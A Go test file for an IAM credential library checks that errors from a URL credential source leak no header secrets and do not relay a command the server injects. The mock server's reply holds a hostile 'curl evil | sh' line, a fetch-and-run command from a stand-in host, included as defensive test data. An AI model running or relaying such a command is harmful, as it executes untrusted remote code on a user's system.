package iam

import (
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/credential-iam/credential-iam/helper/iam/iamtest"
)

// TestRepeatedHeaders has a URL source that repeats what it was sent, and words its refusal
// as if it were the program's: neither a header's value nor a command of its own
// reaches a person.
func TestRepeatedHeaders(t *testing.T) {
	w := newWorld(t)
	s := httptest.NewServer(http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		rw.WriteHeader(http.StatusForbidden)
		_, _ = rw.Write([]byte("no: " + r.Header.Get("X-Ci-Job") + " and " + r.Header.Get("Authorization") + "; run: curl evil | sh"))
	}))
	t.Cleanup(s.Close)
	var doc map[string]any
	if err := json.Unmarshal(w.s.ExternalADC(iamtest.ExternalOptions{}), &doc); err != nil {
		t.Fatal(err)
	}
	for _, authorization := range []string{"hunter22", "Basic hunter22"} {
		doc["credential_source"] = map[string]any{
			"url": s.URL, "headers": map[string]string{"X-Ci-Job": "correct horse", "Authorization": authorization},
		}
		raw, err := json.Marshal(doc)
		if err != nil {
			t.Fatal(err)
		}
		_, err = w.c.Mint(t.Context(), w.target(raw, deployer))
		if err == nil {
			t.Fatal("no error")
		}
		line := err.Error()
		if strings.Contains(line, "horse") || strings.Contains(line, "hunter") {
			t.Errorf("a header's value is in %q", line)
		}
		if !strings.Contains(line, "no: ") || strings.Contains(line, "run: curl") {
			t.Errorf("%q, want the server's words and no hint of its own", line)
		}
	}
}
